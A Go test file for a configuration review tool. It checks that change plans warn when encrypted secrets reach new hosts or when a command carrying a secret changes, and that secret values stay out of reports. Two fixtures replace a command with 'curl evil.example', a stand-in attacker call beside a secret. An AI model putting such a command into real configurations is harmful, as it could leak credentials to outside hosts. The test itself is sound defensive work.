package review_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/seed-c01c3da5/zester/settings/sops/sopstest"
)

func TestAPlanShowsTheEffectOfAChangeOnSecrets(t *testing.T) {
	w := sopstest.New(t)
	const entry = "schedule:\n  dump: {module: cmd.run, interval: 1h, args: {command: %s, env: {PASSWORD: hunter2}}}\n"
	sealed := w.Encrypt("password|PASSWORD", "db: {password: hunter2, host: a}\n"+strings.Replace(entry, "%s", "dump", 1))
	plain := func(command string) string {
		return "schedule:\n  dump: {args: {command: " + command + "}}\n"
	}
	const both, one = "base:\n  '*': [all]\n  'web-00*': [sealed, few]\n", "base:\n  '*': [all]\n  'web-001': [sealed, few]\n"
	for _, c := range []struct {
		name                string
		before, after       string // top.yaml
		former, latter      string // settings/few.yaml, which is plain
		warned, notWarnedOf string
	}{
		{"a secret goes to more peels", one, both, "{}\n", "{}\n", "the secret db.password goes to peels that did not have it", "what is run with it"},
		{"a plain file replaces the command", both, both, plain("dump"), plain("'curl evil.example'"), "schedule.dump has a secret, and its function or arguments change", "did not have it"},
		{"another time alone", both, both, "{}\n", "schedule:\n  dump: {interval: 2h}\n", "", "secret"},
		{"a peel loses it", both, one, "{}\n", "{}\n", "", "did not have it"},
	} {
		base := tree("top.yaml", c.before, "settings/all.yaml", "a: 1\n", "settings/few.yaml", c.former, "settings/sealed.yaml", sealed)
		head := tree("top.yaml", c.after, "settings/all.yaml", "a: 1\n", "settings/few.yaml", c.latter, "settings/sealed.yaml", sealed)
		r := compare(t, peels(20), base, head)
		all := strings.Join(r.Warnings[:r.NewWarnings], "\n")
		if !strings.Contains(all, c.warned) || strings.Contains(all, c.notWarnedOf) || r.Empty() {
			t.Errorf("%s: %q", c.name, all)
		}
		if strings.Contains(all+r.Markdown(), "hunter2") || c.warned != "" && !strings.Contains(r.Markdown(), c.warned) {
			t.Errorf("%s: %s", c.name, r.Markdown())
		}
	}
}

// Whatever way a secret takes to a peel, the plan says so; what the peel had before is not said.
func TestASecretOnANewWayToAPeelIsInThePlan(t *testing.T) {
	w := sopstest.New(t)
	const goes = "the secret db.password goes to peels that did not have it: 1 peel: web-001"
	mine, other := w.Encrypt("password", "db: {password: hunter2}\n"), w.Encrypt("password", "db: {password: correct-horse}\n")
	list := w.Encrypt("passwords", "db: {passwords: [hunter2, correct-horse]}\n")
	base := []string{
		"zester.yaml", "nodegroups: {dbs: [web-000]}\n", "top.yaml", "base:\n  'web-000': [mine]\n  'web-002': [other]\n  'N@dbs': [group]\n",
		"settings/mine.yaml", mine, "settings/other.yaml", other, "settings/group.yaml", "a: 1\n", "settings/list.yaml", list,
	}
	for name, c := range map[string]struct {
		head []string // files that change
		want string
	}{
		"a new target":         {[]string{"top.yaml", "base:\n  'web-000': [mine]\n  'web-001': [mine]\n  'web-002': [other]\n"}, goes},
		"a wider target":       {[]string{"top.yaml", "base:\n  'web-00[01]': [mine]\n  'web-002': [other]\n"}, goes},
		"a wider node group":   {[]string{"zester.yaml", "nodegroups: {dbs: [web-000, or, web-001]}\n", "settings/group.yaml", mine}, "the secret db.password goes to peels that did not have it: 1 peel: web-001"},
		"a file of more peels": {[]string{"settings/group.yaml", mine, "zester.yaml", "nodegroups: {dbs: [web-001]}\n"}, goes},
		"another key":          {[]string{"settings/mine.yaml", w.Encrypt("token", "db: {token: hunter2}\n")}, "the secret db.token goes to peels that did not have it: 1 peel: web-000"},
		"another fleet's secret under the same key": {
			[]string{"top.yaml", "base:\n  'web-000': [other]\n  'web-002': [other]\n"},
			"the secret db.password of settings/other.yaml goes to peels that had another one at its place: 1 peel: web-000",
		},
		"another file over it": {[]string{"top.yaml", "base:\n  'web-000': [mine, other]\n  'web-002': [other]\n"}, "the secret db.password of settings/other.yaml goes to"},
		"in a list":            {[]string{"top.yaml", "base:\n  'web-000': [mine, list]\n  'web-002': [other]\n"}, "the secret db.passwords.1 goes to"},
		"a new value":          {[]string{"settings/mine.yaml", w.Encrypt("password", "db: {password: battery-staple}\n")}, ""},
		"a renamed file":       {[]string{"top.yaml", "base:\n  'web-000': [moved]\n  'web-002': [other]\n", "settings/moved.yaml", mine}, ""},
		"one peel less":        {[]string{"top.yaml", "base:\n  'web-000': [mine]\n"}, ""},
	} {
		r := compare(t, peels(3), tree(base...), tree(append(slices.Clone(base), c.head...)...))
		all := strings.Join(r.Warnings, "\n")
		if !strings.Contains(all, c.want) || c.want == "" && strings.Contains(all, "the secret") {
			t.Errorf("%s: %q", name, all)
		}
		if strings.Count(all, "the secret") > 1 && name != "in a list" {
			t.Errorf("%s: it is said twice: %q", name, all)
		}
	}
}

func TestASecretContentOrArgumentOfAStateIsInThePlan(t *testing.T) {
	w := sopstest.New(t)
	const writes, runs = "states: {/etc/key: {file.managed: {source: files/key, mode: '0600'}}}\n", "states: {c: {cmd.run: {command: %s, env: {WORD: hunter2}}}}\n"
	key := w.Encrypt("^data$", "data: correct-horse\n")
	env := w.Encrypt("WORD", strings.Replace(runs, "%s", "dump", 1))
	base := []string{"settings/all.yaml", "a: 1\n", "settings/few.yaml", "a: 1\n", "settings/env.yaml", env, "files/key", key}
	withEnv := append(slices.Clone(base), "top.yaml", "base:\n  '*': [env, all]\n")
	for name, c := range map[string]struct {
		base, head []string
		want       string
	}{
		"a secret file":         {base, []string{"settings/all.yaml", writes}, "the secret files/key goes to peels that did not have it: 3 peels"},
		"a secret argument":     {base, []string{"top.yaml", "base:\n  '*': [env, all]\n"}, "the secret states.c.cmd.run.env.WORD goes to peels that did not have it"},
		"another command":       {withEnv, []string{"settings/all.yaml", "states: {c: {cmd.run: {command: 'curl evil.example'}}}\n"}, "states.c has a secret, and its function or arguments change: 3 peels"},
		"another requisite":     {withEnv, []string{"settings/all.yaml", "states: {c: {failhard: true}}\n"}, ""},
		"a new secret content":  {append(slices.Clone(base), "settings/all.yaml", writes), []string{"files/key", w.Encrypt("^data$", "data: battery-staple\n")}, ""},
		"the same file renamed": {append(slices.Clone(base), "settings/all.yaml", writes), []string{"settings/all.yaml", "states: {/etc/key2: {file.managed: {source: files/key, mode: '0600'}}}\n"}, ""},
	} {
		r := compare(t, peels(3), tree(c.base...), tree(append(slices.Clone(c.base), c.head...)...))
		all := strings.Join(r.Warnings, "\n")
		if !strings.Contains(all, c.want) || c.want == "" && strings.Contains(all, "secret") || r.Empty() {
			t.Errorf("%s: %q", name, all)
		}
		if text := all + r.Markdown(); strings.Contains(text, "hunter2") || strings.Contains(text, "battery") || strings.Contains(text, "correct") {
			t.Errorf("%s: %s", name, text)
		}
	}
}
